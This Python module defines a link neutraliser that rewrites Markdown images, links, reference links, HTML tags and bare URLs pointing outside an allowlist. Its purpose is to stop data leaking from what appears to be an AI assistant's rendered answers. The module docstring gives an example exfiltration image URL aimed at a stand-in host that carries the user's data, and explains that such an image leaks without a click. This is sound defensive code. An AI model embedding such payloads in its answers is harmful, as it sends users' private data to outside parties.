"""Links and images in an answer that could carry data out.

A Markdown image is fetched by the browser as soon as the answer is shown, so
`![x](https://evil.example/?q=<the user's data>)` leaks without a click; a link leaks on one.
`LinkNeutraliser` keeps links to allowed hosts and rewrites the rest:

- an image becomes its alt text and the bare host:
  `![chart](https://evil/x?q=1)` → `chart (image from evil)`;
- a Markdown link becomes its text and the bare host: `[docs](https://evil/p?q=1)` → `docs (evil)`;
- a bare URL becomes its host with the path dropped, and the dots bracketed so no renderer
  links it: `https://evil.example/p?q=1` → `evil[.]example/…`.

Hosts match exactly or as a parent domain (`example.com` allows `docs.example.com`).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import urlsplit

_TARGET = r"\(\s*<?((?:[^()\s>]|\([^()\s]*\))+)>?(?:\s+\"[^\"]*\")?\s*\)"
"""A Markdown link target: the URL (one level of parentheses allowed) and an optional title."""
_IMAGE = re.compile(r"!\[([^\]\n]*)\]" + _TARGET)
_LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]" + _TARGET)
_REFERENCE = re.compile(r"^\s{0,3}\[([^\]\n]+)\]:\s*<?(\S+?)>?(?:\s+.*)?$", re.MULTILINE)
_HTML_SRC = re.compile(r"<(img|a|iframe|script|link)\b[^>]*>", re.IGNORECASE)
_URL = re.compile(
    r"\b(?:https?|ftp|wss?)://[^\s<>()\[\]\"']+|\bwww\.[^\s<>()\[\]\"']+", re.IGNORECASE
)


@dataclass(frozen=True, slots=True)
class Neutralised:
    text: str
    removed: tuple[str, ...]
    """The hosts of the links and images rewritten."""


class LinkNeutraliser:
    def __init__(self, allow_hosts: Iterable[str] = ()) -> None:
        self.allow_hosts = frozenset(h.lower().strip(".") for h in allow_hosts if h)

    def allowed(self, url: str) -> bool:
        host = _host(url)
        if not host:
            return not re.match(r"^[a-z][a-z0-9+.\-]*:|^//", url, re.IGNORECASE)
        return any(host == h or host.endswith("." + h) for h in self.allow_hosts)

    def neutralise(self, text: str) -> Neutralised:
        removed: list[str] = []

        def off(url: str) -> str:
            host = _host(url) or url.split(":", 1)[0]
            removed.append(host)
            return _defanged(host)

        def image(m: re.Match[str]) -> str:
            alt, url = m.group(1), m.group(2)
            return m.group(0) if self.allowed(url) else f"{alt} (image from {off(url)})".lstrip()

        def link(m: re.Match[str]) -> str:
            label, url = m.group(1), m.group(2)
            return m.group(0) if self.allowed(url) else f"{label} ({off(url)})"

        def reference(m: re.Match[str]) -> str:
            return m.group(0) if self.allowed(m.group(2)) else f"[{m.group(1)}]: {off(m.group(2))}"

        def html(m: re.Match[str]) -> str:
            urls = re.findall(
                r"(?:src|href|data|action)\s*=\s*[\"']?([^\"'\s>]+)", m.group(0), re.I
            )
            if all(self.allowed(u) for u in urls):
                return m.group(0)
            return " ".join(f"({off(u)})" for u in urls if not self.allowed(u))

        def bare(m: re.Match[str]) -> str:
            url = m.group(0)
            if self.allowed(url if "://" in url else "http://" + url):
                return url
            host = off(url if "://" in url else "http://" + url)
            rest = urlsplit(url if "://" in url else "http://" + url)
            return f"{host}/…" if (rest.path.strip("/") or rest.query) else host

        text = _IMAGE.sub(image, text)
        text = _LINK.sub(link, text)
        text = _REFERENCE.sub(reference, text)
        text = _HTML_SRC.sub(html, text)
        text = _URL.sub(bare, text)
        return Neutralised(text=text, removed=tuple(removed))


def _host(url: str) -> str:
    try:
        parts = urlsplit(url)
        return (parts.hostname or "").lower().strip(".")
    except ValueError:
        return ""


def _defanged(host: str) -> str:
    return host.replace(".", "[.]")
